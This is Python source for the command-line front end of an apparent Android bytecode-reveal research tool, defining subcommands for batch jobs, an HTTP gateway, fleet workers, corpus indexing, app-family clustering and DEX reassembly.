    serve.add_argument("--workers", type=int, default=2,
                       help="worker-pool size (default: 2)")
    serve.add_argument("--linger", type=float, default=0.0,
                       help="after draining, keep polling the store for new "
                            "submissions for this many seconds (default: "
                            "exit once drained)")
    serve.add_argument("--poll-interval", type=float, default=0.5,
                       help="store poll period while lingering (default: 0.5s)")
    _add_pipeline_flags(serve)
    serve.add_argument("--json", action="store_true",
                       help="emit a machine-readable run summary")

    submit = sub.add_parser(
        "submit",
        help="journal corpus jobs into a store (no server required) "
             "or POST them to a gateway with --url",
    )
    submit.add_argument("--store", default=None,
                        help="job-store directory the server will drain")
    submit.add_argument("--url", default=None,
                        help="submit over HTTP to a running gateway "
                             "instead of writing the store directly")
    submit.add_argument("--token", default=None,
                        help="bearer token for a tenant-scoped gateway "
                             "(--url only)")
    submit.add_argument("--corpus", choices=CORPORA, default="fdroid",
                        help="which benchsuite corpus to submit")
    submit.add_argument("--limit", type=int, default=None,
                        help="cap the corpus at the first N apps")
    submit.add_argument("--priority", choices=sorted(PRIORITIES),
                        default="normal",
                        help="priority lane for these jobs (default: normal)")
    submit.add_argument("--collect-only", action="store_true",
                        help="run only the JIT-collection half")
    submit.add_argument("--json", action="store_true",
                        help="emit the submitted job ids as JSON")

    gateway = sub.add_parser(
        "gateway",
        help="serve the HTTP reveal API in front of a job store",
    )
    gateway.add_argument("--store", required=True,
                         help="job-store directory the fleet shares")
    gateway.add_argument("--host", default="127.0.0.1",
                         help="bind address (default: 127.0.0.1)")
    gateway.add_argument("--port", type=int, default=8080,
                         help="bind port; 0 picks an ephemeral one "
                              "(default: 8080)")
    gateway.add_argument("--tenant", action="append", default=None,
                         metavar="TOKEN:NAME",
                         help="add one tenant (repeatable); with any "
                              "--tenant, requests must send "
                              "'Authorization: Bearer TOKEN'")
    gateway.add_argument("--rate-limit", type=int, default=None,
                         help="per-tenant requests per minute "
                              "(default: unlimited)")
    gateway.add_argument("--max-active", type=int, default=None,
                         help="per-tenant cap on jobs queued or running "
                              "(default: unlimited)")
    gateway.add_argument("--duration", type=float, default=None,
                         help="serve for this many seconds then exit "
                              "(default: until interrupted)")
    gateway.add_argument("--json", action="store_true",
                         help="announce the bound URL as JSON")

    worker = sub.add_parser(
        "worker",
        help="join the worker fleet: lease jobs from a store and "
             "reveal them",
    )
    worker.add_argument("--store", required=True,
                        help="job-store directory the fleet shares")
    worker.add_argument("--worker-id", default=None,
                        help="stable fleet identity "
                             "(default: host-pid-random)")
    worker.add_argument("--lease-ttl", type=float,
                        default=LEASE_TTL_DEFAULT_S,
                        help="seconds a lease survives without a "
                             f"heartbeat (default: {LEASE_TTL_DEFAULT_S})")
    worker.add_argument("--max-jobs", type=int, default=None,
                        help="exit after this many jobs (default: "
                             "drain the store)")
    worker.add_argument("--linger", type=float, default=0.0,
                        help="after draining, keep polling for new work "
                             "this many seconds (default: exit once "
                             "drained)")
    worker.add_argument("--poll-interval", type=float, default=0.5,
                        help="store poll period while lingering "
                             "(default: 0.5s)")
    worker.add_argument("--workers", type=int, default=1,
                        help="thread-pool width inside this worker's "
                             "pipeline service (default: 1)")
    _add_pipeline_flags(worker)
    worker.add_argument("--json", action="store_true",
                        help="emit a machine-readable drain report")

    index_p = sub.add_parser(
        "index",
        help="build, query and summarise a persistent corpus index",
    )
    index_sub = index_p.add_subparsers(dest="index_command")
    ibuild = index_sub.add_parser(
        "build",
        help="register saved collection archives into a corpus index",
    )
    ibuild.add_argument("--index-dir", required=True,
                        help="corpus-index directory (created if absent)")
    ibuild.add_argument("archives", nargs="+",
                        help="collection-archive directories to register")
    ibuild.add_argument("--app-id", default=None,
                        help="app id the archives are registered under "
                             "(default: each archive's directory name)")
    ibuild.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")
    iquery = index_sub.add_parser(
        "query",
        help="look up methods in a corpus index by digest or signature",
    )
    iquery.add_argument("--index-dir", required=True,
                        help="corpus-index directory to read")
    iquery.add_argument("--exact", default=None,
                        help="canonical bytecode digest to look up")
    iquery.add_argument("--norm", default=None,
                        help="normalized (register/pool-insensitive) "
                             "digest to look up")
    iquery.add_argument("--signature", default=None,
                        help="method signature to look up")
    iquery.add_argument("--nearest", default=None,
                        help="fuzzy digest: rank the corpus by "
                             "similarity distance to it")
    iquery.add_argument("--limit", type=int, default=5,
                        help="result cap for --nearest (default: 5)")
    iquery.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")
    istats = index_sub.add_parser(
        "stats",
        help="summarise a corpus index (apps, methods, digests, bodies)",
    )
    istats.add_argument("--index-dir", required=True,
                        help="corpus-index directory to read")
    istats.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")

    cluster_p = sub.add_parser(
        "cluster",
        help="family clustering, LSH nearest-neighbor and auto-labels "
             "over a corpus index",
    )
    cluster_sub = cluster_p.add_subparsers(dest="cluster_command")
    cbuild = cluster_sub.add_parser(
        "build",
        help="absorb a corpus index into a cluster store and "
             "(re)compute family assignments",
    )
    cbuild.add_argument("--index-dir", required=True,
                        help="corpus-index directory to cluster")
    cbuild.add_argument("--cluster-dir", required=True,
                        help="cluster-store directory (created if absent)")
    cbuild.add_argument("--threshold", type=float, default=None,
                        help="weighted-Jaccard similarity at which two "
                             "apps join one family (default: 0.5)")
    cbuild.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")
    clabel = cluster_sub.add_parser(
        "label",
        help="auto-label a saved collection archive against a "
             "cluster store (read-only)",
    )
    clabel.add_argument("archive",
                        help="collection-archive directory to label")
    clabel.add_argument("--cluster-dir", required=True,
                        help="cluster-store directory to label against")
    clabel.add_argument("--index-dir", default=None,
                        help="corpus index supplying apps_with_norm "
                             "provenance (default: the cluster store's "
                             "own members)")
    clabel.add_argument("--app-id", default=None,
                        help="app id the archive is labeled as "
                             "(default: the archive's directory name)")
    clabel.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")
    cneigh = cluster_sub.add_parser(
        "neighbors",
        help="rank cluster members by fuzzy distance to a digest "
             "(banded LSH; --exhaustive scans linearly)",
    )
    cneigh.add_argument("--cluster-dir", required=True,
                        help="cluster-store directory to read")
    cneigh.add_argument("--digest", required=True,
                        help="fuzzy digest to rank against")
    cneigh.add_argument("--limit", type=int, default=5,
                        help="result cap (default: 5)")
    cneigh.add_argument("--exhaustive", action="store_true",
                        help="bypass the LSH buckets and scan every "
                             "member (the oracle path)")
    cneigh.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")
    cstats = cluster_sub.add_parser(
        "stats",
        help="summarise a cluster store (members, families, LSH shape)",
    )
    cstats.add_argument("--cluster-dir", required=True,
                        help="cluster-store directory to read")
    cstats.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of text")

    status = sub.add_parser(
        "status",
        help="render a job store's journal (states, waits, outcomes)",
    )
    status.add_argument("--store", required=True,
                        help="job-store directory to inspect")
    status.add_argument("--json", action="store_true",
                        help="emit machine-readable JSON instead of a table")

    watch = sub.add_parser(
        "watch",
        help="print the unified event stream from a store's journal",
    )
    watch.add_argument("--store", required=True,
                       help="job-store directory to watch")
    watch.add_argument("--follow", action="store_true",
                       help="keep tailing until every job is terminal")
    watch.add_argument("--timeout", type=float, default=60.0,
                       help="give up following after this many seconds "
                            "(default: 60)")
    args = parser.parse_args(argv)

    if args.command is None:
        parser.print_help()
        return 2
    if args.command == "reassemble":
        return _run_reassemble(args)
    if args.command == "index":
        return _run_index(args, parser)
    if args.command == "cluster":
        return _run_cluster(args)
    if args.command == "serve":
        return _run_serve(args)
    if args.command == "submit":
        return _run_submit(args)
    if args.command == "gateway":
        return _run_gateway(args)
    if args.command == "worker":
        return _run_worker(args)
    if args.command == "status":
        return _run_status(args)
    if args.command == "watch":
        return _run_watch(args)

    jobs = build_corpus_jobs(args.corpus, args.limit)
    try:
        service = _service_from(args)
    except OSError as exc:
        return usage_error(f"cannot use cache dir {args.cache_dir!r}: {exc}")
    report = service.reveal_batch(jobs)

    if args.json:
        print(json.dumps(
            {
                "corpus": args.corpus,
                "summary": report.summary(),
                "outcomes": [o.to_summary() for o in report.outcomes],
            },
            indent=2,
        ))
    else:
        # Deferred import: repro.harness imports this package back.
        from repro.harness.tables import human_size, render_table

        rows = [
            [
                o.app_id,
                o.status,
                "hit" if o.cache_hit else "miss",
                f"{o.latency_s * 1000:.1f}ms",
                human_size(o.dump_size_bytes),
                o.error[:60],
            ]
            for o in report.outcomes
        ]
        print(render_table(
            f"Batch reveal — {args.corpus} corpus",
            ["App", "Status", "Cache", "Latency", "Dump Size", "Detail"],
            rows,
        ))
        print()
        print(report.render())

    hard_failures = {STATUS_ERROR, STATUS_VERIFY_FAILED}
    if any(o.status in hard_failures for o in report.outcomes):
        return failure()
    # An all-failure report (nothing resolved ``ok``) must not exit 0:
    # a calling script would read total failure as success.
    if report.total and report.ok_count == 0:
        return failure()
    return EXIT_OK


def _run_serve(args) -> int:
    """The ``serve`` subcommand: drain a job store, exit cleanly.

    Adopts every queued record in the store — fresh submissions from
    the ``submit`` CLI and jobs a killed server still owed alike —
    processes them to a terminal state, and (with ``--linger``) keeps
    polling for new work before shutting the pool down.
    """
    from repro.service.server import RevealServer

    warm_native_registries = registry_warmer()
    try:
        store = JobStore(args.store)
        warm_native_registries(store.load_all())
        service = _service_from(args, backend="thread")
        progress = [] if args.json else [
            lambda e: print(f"[{e.seq:>4}] {e.kind:<10} {e.job_id} "
                            f"({e.app_id})")
        ]
        # keep_results=False: a lingering server must not accumulate
        # one revealed APK per completed job on its handles; results
        # live in the cache and the journal.
        server = RevealServer(service=service, workers=args.workers,
                              store=store, observers=progress,
                              keep_results=False)
    except OSError as exc:
        return usage_error(f"cannot use store {args.store!r}: {exc}")
    deadline = time.monotonic() + max(0.0, args.linger)
    while True:
        # One journal read per tick, shared by the native-registry
        # warmer and the queue sync.
        records = store.load_all()
        warm_native_registries(records)
        adopted = server.sync_store(records)
        if adopted:
            deadline = time.monotonic() + max(0.0, args.linger)
        server.wait_idle()
        if time.monotonic() >= deadline:
            break
        time.sleep(min(args.poll_interval,
                       max(0.0, deadline - time.monotonic())))
    server.close()
    counts = server.status_counts()
    processed = {state: n for state, n in counts.items() if n}
    if args.json:
        print(json.dumps({"store": args.store, "jobs": processed}, indent=2))
    else:
        breakdown = "  ".join(f"{s}={n}" for s, n in processed.items()) \
            or "(nothing queued)"
        print(f"serve: drained {sum(processed.values())} job(s) "
              f"[{breakdown}]; clean shutdown")
    # Mirror reveal-batch's exit-code contract: a drain that left
    # failed jobs behind must not look like success to the caller.
    return exit_for_failures(processed.get(JobState.FAILED, 0))


def _run_submit(args) -> int:
    """The ``submit`` subcommand: journal queued records (``--store``)
    or POST them to a running gateway (``--url``)."""
    if bool(args.store) == bool(args.url):
        return usage_error("pass exactly one of --store or --url")
    try:
        jobs = build_corpus_jobs(args.corpus, args.limit)
    except ValueError as exc:
        return usage_error(str(exc))
    lane = resolve_priority(args.priority)
    job_ids = []
    if args.url:
        from repro.service.http_client import GatewayClient, GatewayError

        client = GatewayClient(args.url, token=args.token)
        try:
            for job in jobs:
                job.collect_only = args.collect_only
                handle = client.submit(job, priority=lane,
                                       meta={"corpus": args.corpus})
                job_ids.append({"job_id": handle.job_id,
                                "app_id": job.app_id})
        except GatewayError as exc:
            return usage_error(str(exc))
        except OSError as exc:
            return usage_error(f"cannot reach gateway {args.url!r}: {exc}")
        target = args.url
    else:
        try:
            store = JobStore(args.store)
        except OSError as exc:
            return usage_error(f"cannot use store {args.store!r}: {exc}")
        for job in jobs:
            job_id = f"job-{uuid.uuid4().hex[:10]}"
            store.save(store.make_record(
                job_id=job_id, app_id=job.app_id, apk=job.apk,
                priority=lane, collect_only=args.collect_only,
                cache_salt=job.cache_salt, device=job.device,
                metadata={"corpus": args.corpus},
            ))
            job_ids.append({"job_id": job_id, "app_id": job.app_id})
        target = args.store
    if args.json:
        print(json.dumps({"target": target, "store": args.store,
                          "url": args.url, "submitted": job_ids},
                         indent=2))
    else:
        for entry in job_ids:
            print(f"queued {entry['job_id']} ({entry['app_id']})")
        print(f"submitted {len(job_ids)} job(s) to {target}")
    return EXIT_OK


def _run_gateway(args) -> int:
    """The ``gateway`` subcommand: HTTP front end over one store."""
    from repro.service.gateway import RevealGateway

    tenants: dict[str, str] = {}
    for spec in args.tenant or ():
        token, sep, name = spec.partition(":")
        if not sep or not token or not name:
            return usage_error(f"--tenant expects TOKEN:NAME, "
                               f"got {spec!r}")
        tenants[token] = name
    try:
        gateway = RevealGateway(
            JobStore(args.store),
            host=args.host, port=args.port,
            tenants=tenants or None,
            rate_limit_per_min=args.rate_limit,
            max_active_per_tenant=args.max_active,
        ).start()
    except OSError as exc:
        return usage_error(f"cannot serve store {args.store!r}: {exc}")
    if args.json:
        print(json.dumps({"url": gateway.url, "store": args.store,
                          "tenants": sorted(tenants.values())}),
              flush=True)
    else:
        print(f"gateway listening on {gateway.url} "
              f"(store {args.store})", flush=True)
    try:
        if args.duration is None:
            while True:
                time.sleep(3600)
        else:
            time.sleep(max(0.0, args.duration))
    except KeyboardInterrupt:
        pass
    finally:
        gateway.close()
    return EXIT_OK


def _run_worker(args) -> int:
    """The ``worker`` subcommand: one fleet member draining a store.

    The outer loop interleaves native-registry warming with claim
    sweeps so corpus jobs submitted *while* the worker lingers still
    find their native libraries registered.
    """
    from repro.service.worker import RevealWorker

    try:
        store = JobStore(args.store)
        service = _service_from(args, backend="thread")
        worker = RevealWorker(
            store, service=service, worker_id=args.worker_id,
            lease_ttl_s=args.lease_ttl,
            poll_interval_s=args.poll_interval,
        )
    except OSError as exc:
        return usage_error(f"cannot use store {args.store!r}: {exc}")
    warm_native_registries = registry_warmer()
    totals = {"processed": 0, "done": 0, "failed": 0,
              "cancelled": 0, "lost": 0}
    deadline = time.monotonic() + max(0.0, args.linger)
    while True:
        warm_native_registries(store.load_all())
        remaining = (None if args.max_jobs is None
                     else args.max_jobs - totals["processed"])
        report = worker.run(max_jobs=remaining, linger_s=0.0)
        for key in totals:
            totals[key] += getattr(report, key)
        if not args.json and report.processed:
            for job_id in report.job_ids:
                print(f"[{worker.worker_id}] finished {job_id}")
        if report.processed:
            deadline = time.monotonic() + max(0.0, args.linger)
        if args.max_jobs is not None \
                and totals["processed"] >= args.max_jobs:
            break
        if time.monotonic() >= deadline:
            break
        time.sleep(min(args.poll_interval,
                       max(0.0, deadline - time.monotonic())))
    if args.json:
        print(json.dumps({"store": args.store,
                          "worker_id": worker.worker_id, **totals},
                         indent=2))
    else:
        breakdown = "  ".join(f"{k}={n}" for k, n in totals.items() if n) \
            or "(nothing claimed)"
        print(f"worker {worker.worker_id}: {totals['processed']} job(s) "
              f"[{breakdown}]")
    return exit_for_failures(totals["failed"])


def _open_store_readonly(path: str) -> JobStore | None:
    """A store for inspection commands: never create the directory —
    a typo'd path must error, not masquerade as an empty queue — and
    refuse stores written by a different format version, which
    ``load_all`` would silently skip (``watch --follow`` would then
    tail an apparently-empty queue until its timeout)."""
    if not os.path.isdir(os.path.join(path, "jobs")):
        # Covers a nonexistent path, a plain file, and a real directory
        # that simply is not a store — none of which may be mutated
        # (JobStore would otherwise scaffold ``jobs/`` inside it).
        usage_error(f"no job store at {path!r}")
        return None
    try:
        store = JobStore(path, create=False)
        foreign = store.foreign_version_jobs()
    except OSError as exc:
        usage_error(f"cannot read store {path!r}: {exc}")
        return None
    if foreign:
        job_id, version = foreign[0]
        usage_error(f"store {path!r} holds {len(foreign)} record(s) with "
                    f"format version {version!r} (e.g. {job_id}); this "
                    f"build reads version {STORE_FORMAT_VERSION}")
        return None
    return store


def _run_status(args) -> int:
    """The ``status`` subcommand: the journal as a table (or JSON).

    Rows are :meth:`JobHandle.to_dict` — the same wire shape the
    gateway's ``GET /v1/jobs/<id>`` serves, so scripts parse one
    vocabulary whichever surface they read.
    """
    store = _open_store_readonly(args.store)
    if store is None:
        return EXIT_USAGE
    rows = [JobHandle.from_record(record).to_dict()
            for record in store.load_all()]
    if args.json:
        counts: dict[str, int] = {}
        for row in rows:
            counts[row["state"]] = counts.get(row["state"], 0) + 1
        print(json.dumps({"store": args.store, "counts": counts,
                          "jobs": rows}, indent=2))
        return 0
    from repro.harness.tables import render_table

    print(render_table(
        f"Job store — {args.store}",
        ["Job", "App", "State", "Wait", "Run", "Status", "Detail"],
        [
            [
                row["job_id"],
                row["app_id"],
                row["state"],
                f"{row['queue_wait_s'] * 1000:.1f}ms",
                f"{row['run_s'] * 1000:.1f}ms",
                row["status"],
                row["error"][:40],
            ]
            for row in rows
        ],
    ))
    return 0


def _run_watch(args) -> int:
    """The ``watch`` subcommand: print (and optionally tail) events."""
    store = _open_store_readonly(args.store)
    if store is None:
        return EXIT_USAGE

    def render(event: dict) -> str:
        payload = event.get("payload", {})
        detail = ""
        if event.get("kind") == "stage":
            detail = (f" {payload.get('stage')} "
                      f"{payload.get('duration_s', 0) * 1000:.1f}ms")
        elif event.get("kind") == "wave":
            detail = (f" wave={payload.get('wave_size')} "
                      f"explored={payload.get('paths_explored')}")
        elif event.get("kind") in ("done", "failed"):
            detail = f" status={payload.get('status', '')}"
        return (f"[{event.get('seq', 0):>4}] {event.get('kind', '?'):<10} "
                f"{event.get('job_id', '?')} ({event.get('app_id', '')})"
                f"{detail}")

    if not args.follow:
        for event in store.events():
            print(render(event))
        return 0

    # Follow mode tails the journal incrementally (one seek per idle
    # poll, not a whole-file re-parse) and only re-reads job records
    # when a terminal event suggests the queue may have drained.
    offset = 0
    check_terminal = True
    deadline = time.monotonic() + max(0.0, args.timeout)
    while True:
        events, offset = store.tail_events(offset)
        for event in events:
            print(render(event))
        check_terminal = check_terminal or any(
            e.get("kind") in ("done", "failed", "cancelled")
            for e in events
        )
        if check_terminal:
            records = store.load_all()
            if records and all(r.get("state") in JobState.TERMINAL
                               for r in records):
                break
            check_terminal = False
        if time.monotonic() >= deadline:
            return failure("watch: timeout with jobs still pending")
        time.sleep(0.2)
    return EXIT_OK


def _open_index_readonly(path: str):
    """A corpus index for query/stats: never create the directory — a
    typo'd path must error, not render an empty index — and surface
    format-version refusals as one-line diagnostics."""
    from repro.index.corpus import CorpusIndex

    try:
        return CorpusIndex(path, create=False)
    except FileNotFoundError:
        usage_error(f"no corpus index at {path!r}")
        return None
    except OSError as exc:
        usage_error(f"cannot read index {path!r}: {exc}")
        return None
    except ValueError as exc:
        usage_error(str(exc))
        return None


def _run_index(args, parser) -> int:
    """The ``index`` subcommand group: build / query / stats.

    Mirrors ``reassemble``'s error contract: bad input (missing
    archive, foreign index version, malformed digest) exits 2 with a
    one-line diagnostic, reassembly failures exit 1, tracebacks never
    escape.
    """
    if args.index_command is None:
        return usage_error("usage: python -m repro.service index "
                           "{build,query,stats} ...")
    if args.index_command == "build":
        return _run_index_build(args)
    if args.index_command == "query":
        return _run_index_query(args)
    return _run_index_stats(args)


def _run_index_build(args) -> int:
    from repro.core.collection_files import CollectionArchive
    from repro.core.stages import ReassembleStage
    from repro.errors import StageError
    from repro.index.corpus import CorpusIndex

    try:
        index = CorpusIndex(args.index_dir)
    except OSError as exc:
        return usage_error(f"cannot use index {args.index_dir!r}: {exc}")
    except ValueError as exc:
        return usage_error(str(exc))
    stage = ReassembleStage(index=index)
    registered = []
    try:
        for path in args.archives:
            app_id = args.app_id or os.path.basename(os.path.normpath(path))
            try:
                archive = CollectionArchive.load(path)
                stage.run(archive, app_id=app_id, artifact=path)
            except OSError as exc:
                return usage_error(f"cannot read archive {path!r}: {exc}")
            except ValueError as exc:
                return usage_error(f"corrupt archive {path!r}: {exc}")
            except StageError as err:
                return failure(f"reassembly failed in the {err.stage} "
                               f"stage for {path!r}: {err.cause}")
            registered.append({"archive": path, "app_id": app_id,
                               **stage.last_index_stats})
    finally:
        index.close()
    if args.json:
        print(json.dumps({"index_dir": args.index_dir,
                          "registered": registered,
                          "stats": index.stats()}, indent=2))
    else:
        for entry in registered:
            print(f"registered {entry['app_id']} ({entry['archive']}): "
                  f"{entry.get('corpus_known', 0)} known / "
                  f"{entry.get('corpus_new', 0)} new method(s), "
                  f"{entry.get('bodies_replayed', 0)} replayed body(ies)")
        stats = index.stats()
        print(f"index now holds {stats['methods']} method(s) across "
              f"{stats['apps']} app(s)")
    return 0


def _run_index_query(args) -> int:
    index = _open_index_readonly(args.index_dir)
    if index is None:
        return EXIT_USAGE
    selectors = [name for name in ("exact", "norm", "signature", "nearest")
                 if getattr(args, name)]
    if len(selectors) != 1:
        return usage_error("pass exactly one of --exact / --norm / "
                           "--signature / --nearest")
    mode = selectors[0]
    try:
        if mode == "exact":
            results = [(None, e) for e in index.lookup_exact(args.exact)]
        elif mode == "norm":
            results = [(None, e) for e in index.lookup_norm(args.norm)]
        elif mode == "signature":
            results = [(None, e)
                       for e in index.lookup_signature(args.signature)]
        else:
            # Accelerate the similarity ranking with the banded LSH;
            # candidates are rescored with the exact distance, so the
            # results match the linear scan.
            index.attach_lsh()
            results = index.nearest(args.nearest, limit=max(1, args.limit),
                                    kind=None)
    except ValueError as exc:
        return usage_error(f"bad digest: {exc}")
    if args.json:
        print(json.dumps({
            "index_dir": args.index_dir,
            "query": {mode: getattr(args, mode)},
            "results": [
                {**entry.to_dict(),
                 **({} if distance is None else {"distance": distance})}
                for distance, entry in results
            ],
        }, indent=2))
        return 0
    if not results:
        print("no matches")
        return 0
    for distance, entry in results:
        prefix = "" if distance is None else f"d={distance:<4} "
        target = entry.method if entry.method else entry.class_desc
        print(f"{prefix}{entry.kind:<6} {entry.app_id:<24} {target}")
    return 0


def _run_index_stats(args) -> int:
    index = _open_index_readonly(args.index_dir)
    if index is None:
        return EXIT_USAGE
    stats = index.stats()
    if args.json:
        print(json.dumps({"index_dir": args.index_dir, **stats}, indent=2))
    else:
        print(f"corpus index {args.index_dir} (format v{stats['version']})")
        print(f"  apps:          {stats['apps']}")
        print(f"  methods:       {stats['methods']}")
        print(f"  classes:       {stats['classes']}")
        print(f"  exact digests: {stats['exact_digests']}")
        print(f"  norm digests:  {stats['norm_digests']}")
        print(f"  bodies:        {stats['bodies']}")
        print(f"  segments:      {stats['segments']}")
        if stats["corrupt_lines"]:
            print(f"  corrupt lines skipped: {stats['corrupt_lines']}")
    return 0


def _open_cluster_readonly(path: str):
    """A cluster store for label/neighbors/stats: never create the
    directory — a typo'd path must error, not render an empty store —
    and surface format-version refusals as one-line diagnostics."""
    from repro.cluster.store import ClusterStore

    try:
        return ClusterStore(path, create=False)
    except FileNotFoundError:
        usage_error(f"no cluster store at {path!r}")
        return None
    except OSError as exc:
        usage_error(f"cannot read cluster store {path!r}: {exc}")
        return None
    except ValueError as exc:
        usage_error(str(exc))
        return None


def _run_cluster(args) -> int:
    """The ``cluster`` subcommand group: build / label / neighbors /
    stats, under the codified exit contract — bad input (missing
    store, foreign format version, malformed digest, unreadable
    archive) exits 2 with a one-line diagnostic, tracebacks never
    escape."""
    if args.cluster_command is None:
        return usage_error("usage: python -m repro.service cluster "
                           "{build,label,neighbors,stats} ...")
    if args.cluster_command == "build":
        return _run_cluster_build(args)
    if args.cluster_command == "label":
        return _run_cluster_label(args)
    if args.cluster_command == "neighbors":
        return _run_cluster_neighbors(args)
    return _run_cluster_stats(args)


def _run_cluster_build(args) -> int:
    from repro.cluster.families import DEFAULT_FAMILY_THRESHOLD
    from repro.cluster.store import ClusterStore

    index = _open_index_readonly(args.index_dir)
    if index is None:
        return EXIT_USAGE
    try:
        store = ClusterStore(args.cluster_dir)
    except OSError as exc:
        return usage_error(f"cannot use cluster store "
                           f"{args.cluster_dir!r}: {exc}")
    except ValueError as exc:
        return usage_error(str(exc))
    threshold = (DEFAULT_FAMILY_THRESHOLD if args.threshold is None
                 else args.threshold)
    if not 0.0 < threshold <= 1.0:
        return usage_error(f"--threshold must be in (0, 1], "
                           f"got {threshold}")
    try:
        absorbed = store.register_index(index)
        assignment = store.build_families(threshold=threshold)
    finally:
        store.close()
    stats = store.stats()
    if args.json:
        print(json.dumps({
            "cluster_dir": args.cluster_dir,
            "index_dir": args.index_dir,
            "absorbed": absorbed,
            "families": assignment.to_dict(),
            "stats": stats,
        }, indent=2))
        return 0
    print(f"absorbed {absorbed} member(s) from {args.index_dir}")
    print(f"{stats['apps']} app(s) -> {len(assignment.families)} "
          f"famil(ies) at threshold {assignment.threshold}")
    for family in assignment.families:
        members = ", ".join(family["apps"][:4])
        if family["size"] > 4:
            members += f", ... (+{family['size'] - 4})"
        print(f"  {family['family']}  size={family['size']:<3} {members}")
    return 0


def _run_cluster_label(args) -> int:
    from repro.cluster.labels import AutoLabeler
    from repro.core.collection_files import CollectionArchive

    store = _open_cluster_readonly(args.cluster_dir)
    if store is None:
        return EXIT_USAGE
    index = None
    if args.index_dir is not None:
        index = _open_index_readonly(args.index_dir)
        if index is None:
            return EXIT_USAGE
    try:
        archive = CollectionArchive.load(args.archive)
        records = archive.method_store().executed_records()
    except OSError as exc:
        return usage_error(f"cannot read archive {args.archive!r}: {exc}")
    except ValueError as exc:
        return usage_error(f"corrupt archive {args.archive!r}: {exc}")
    app_id = args.app_id or os.path.basename(os.path.normpath(args.archive))
    verdict = AutoLabeler(store, index=index).label_records(records, app_id)
    if args.json:
        print(json.dumps({"cluster_dir": args.cluster_dir,
                          "archive": args.archive, "app_id": app_id,
                          **verdict}, indent=2))
        return 0
    family = verdict["family"] or "(no family)"
    print(f"{app_id}: {family} "
          f"(score {verdict['family_score']:.2f}, "
          f"{verdict['methods_known']} known + "
          f"{verdict['methods_near_miss']} near-miss of "
          f"{verdict['methods_total']} method(s))")
    for row in verdict["nearest"]:
        print(f"  d={row['distance']:<4} {row['kind']:<9} "
              f"{row['app_id']:<24} {row['match']}")
    return 0


def _run_cluster_neighbors(args) -> int:
    store = _open_cluster_readonly(args.cluster_dir)
    if store is None:
        return EXIT_USAGE
    try:
        results = store.nearest(args.digest, limit=max(1, args.limit),
                                exhaustive=args.exhaustive)
    except ValueError as exc:
        return usage_error(f"bad digest: {exc}")
    if args.json:
        print(json.dumps({
            "cluster_dir": args.cluster_dir,
            "digest": args.digest,
            "exhaustive": args.exhaustive,
            "results": [{**member.to_dict(), "distance": distance}
                        for distance, member in results],
        }, indent=2))
        return 0
    if not results:
        print("no members with fuzzy digests")
        return 0
    for distance, member in results:
        target = member.method if member.method else member.class_desc
        print(f"d={distance:<4} {member.kind:<6} {member.app_id:<24} "
              f"{target}")
    return 0


def _run_cluster_stats(args) -> int:
    store = _open_cluster_readonly(args.cluster_dir)
    if store is None:
        return EXIT_USAGE
    stats = store.stats()
    if args.json:
        print(json.dumps({"cluster_dir": args.cluster_dir, **stats},
                         indent=2))
        return 0
    print(f"cluster store {args.cluster_dir} (format v{stats['version']})")
    print(f"  apps:      {stats['apps']}")
    print(f"  members:   {stats['members']}")
    print(f"  families:  {stats['families']}"
          + (f" (threshold {stats['family_threshold']})"
             if stats["family_threshold"] is not None else ""))
    print(f"  segments:  {stats['segments']}")
    lsh = stats["lsh"]
    print(f"  lsh:       {lsh['items']} item(s) in {lsh['buckets']} "
          f"bucket(s) ({lsh['bands']} bands x {lsh['band_width']} chars, "
          f"largest bucket {lsh['largest_bucket']})")
    if stats["corrupt_lines"]:
        print(f"  corrupt lines skipped: {stats['corrupt_lines']}")
    return 0


def _run_reassemble(args) -> int:
    """The ``reassemble`` subcommand: archive dir → verified DEX file.

    Bad input never escapes as a traceback: a missing or unreadable
    archive directory, undecodable collection files
    (``UnicodeDecodeError`` is a ``ValueError``, not an ``OSError``)
    and stage-level reassembly failures all exit non-zero with a
    one-line diagnostic.
    """
    from repro.core import reveal_from_archive
    from repro.dex.writer import write_dex
    from repro.errors import StageError

    try:
        result = reveal_from_archive(args.archive)
    except OSError as exc:
        return usage_error(f"cannot read archive {args.archive!r}: {exc}")
    except ValueError as exc:
        return usage_error(f"corrupt archive {args.archive!r}: {exc}")
    except StageError as err:
        return failure(f"reassembly failed in the {err.stage} stage: "
                       f"{err.cause}")

    dex = result.reassembled_dex
    payload = write_dex(dex)
    out = args.out or os.path.join(args.archive, "reassembled.dex")
    try:
        with open(out, "wb") as fh:
            fh.write(payload)
    except OSError as exc:
        return usage_error(f"cannot write DEX to {out!r}: {exc}")

    summary = {
        "archive": args.archive,
        "out": out,
        "dex_size_bytes": len(payload),
        "classes": len(dex.class_defs),
        "archive_size_bytes": result.dump_size_bytes,
        "stage_timings": {
            stage: round(seconds, 6)
            for stage, seconds in result.stage_timings.items()
        },
    }
    if args.json:
        print(json.dumps(summary, indent=2))
    else:
        timings = " ".join(
            f"{stage}={seconds * 1000:.1f}ms"
            for stage, seconds in result.stage_timings.items()
        )
        print(f"reassembled {summary['classes']} classes "
              f"({summary['dex_size_bytes']} bytes) -> {out}")
        print(f"stages: {timings}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
