"""``python -m repro.service`` — batch reveal from the command line.

Usage::

    python -m repro.service reveal-batch                      # F-Droid corpus
    python -m repro.service reveal-batch --corpus aosp --workers 4
    python -m repro.service reveal-batch --cache-dir /tmp/dexlego-cache
    python -m repro.service reveal-batch --corpus droidbench --limit 10 --json
    python -m repro.service reassemble /path/to/archive --out revealed.dex

``reveal-batch`` builds the requested benchsuite corpus, runs it
through a :class:`~repro.service.batch.BatchRevealService`, prints one
row per application (status, cache provenance, latency, dump size) and
the aggregate throughput block.  Exit status is 0 when every app
resolved to a deterministic outcome (``ok``/``crashed``/
``budget-exceeded``) and 1 when any app errored or failed verification.

``reassemble`` runs only the offline half of the pipeline
(:func:`~repro.core.pipeline.reveal_from_archive`) over a directory of
saved collection files — re-running reassembly after a reassembler fix
without re-driving the application — and writes the verified DEX to
``--out``.
"""

from __future__ import annotations

import argparse
import json
import os
import sys

